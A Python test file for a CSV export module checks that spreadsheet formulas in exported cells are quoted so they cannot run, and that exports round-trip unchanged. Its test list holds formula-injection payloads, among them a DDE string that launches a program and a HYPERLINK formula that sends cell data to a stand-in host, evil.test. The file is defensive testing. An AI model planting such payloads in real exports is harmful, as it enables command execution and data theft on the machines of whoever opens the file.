"""CSV that goes out is harmless to open and comes in again as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.services.feedback import csv_io

FORMULAS = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "   +1", "=cmd|' /C calc'!A0", "\uff1d1+1",
    "\uff201", "\uff0b1", "\uff0d1", '=HYPERLINK("http://evil.test?x="&A1,"open")',
]  # fmt: skip


def cells(*values: object) -> list[str]:
    """One line as a reader of CSV sees it."""
    text = "".join(csv_io.written([f"c{n}" for n, _ in enumerate(values)], [values]))
    return list(csv.reader(io.StringIO(text, newline="")))[1]


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_what_a_spreadsheet_would_run_is_quoted(formula: str) -> None:
    assert cells(formula) == ["'" + formula]


@pytest.mark.parametrize("text", ["jane@example.com", "a=b", "1-2", "", "O'Brien", "x+y@example.com"], ids=repr)
def test_what_it_would_not_run_is_left_alone(text: str) -> None:
    assert cells(text) == [text]


def test_a_number_is_a_number() -> None:
    assert cells(-5, None, 7) == ["-5", "", "7"]


def test_a_line_end_inside_a_cell_begins_no_row() -> None:
    for end in ("\n", "\r", "\r\n"):
        assert cells(f"a{end}=1+1", "b") == [f"a{end}=1+1", "b"]


@given(st.text())
def test_what_was_quoted_comes_back_as_it_was(text: str) -> None:
    assert csv_io.plain_text(csv_io.harmless(text)) == text
    assert not csv_io.harmless(text).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_export_imports_as_it_was() -> None:
    text = "".join(csv_io.written(("address", "reason"), [("=cmd@example.com", "-2"), ("jane@example.com", "'x")]))
    (batch,) = csv_io.batches(text.splitlines(), columns=("address", "reason"), read=dict)
    assert [row for _, row in batch.rows] == [
        {"address": "=cmd@example.com", "reason": "-2"}, {"address": "jane@example.com", "reason": "'x"},
    ]  # fmt: skip
